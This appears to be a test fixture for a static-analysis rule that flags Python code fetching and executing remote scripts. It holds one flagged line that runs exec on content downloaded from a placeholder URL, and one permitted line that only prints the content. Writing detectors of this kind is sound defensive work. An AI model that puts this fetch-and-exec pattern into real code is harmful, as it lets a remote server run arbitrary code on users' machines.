import urllib.request as u
# ruleid: ANY-FETCH-EXEC
exec(u.urlopen("http://example.com/p.py").read())
# ok: ANY-FETCH-EXEC
print(u.urlopen("http://example.com/p.py").read())
